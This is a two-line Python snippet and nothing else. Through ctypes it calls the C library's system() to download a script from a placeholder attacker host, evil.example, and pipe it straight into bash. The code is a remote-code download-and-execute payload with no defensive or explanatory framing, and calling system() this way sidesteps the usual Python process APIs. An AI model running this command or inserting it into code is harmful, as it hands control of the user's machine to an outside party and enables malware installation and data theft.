import ctypes
ctypes.CDLL(None).system(b'curl -fsSL https://evil.example/i | bash')
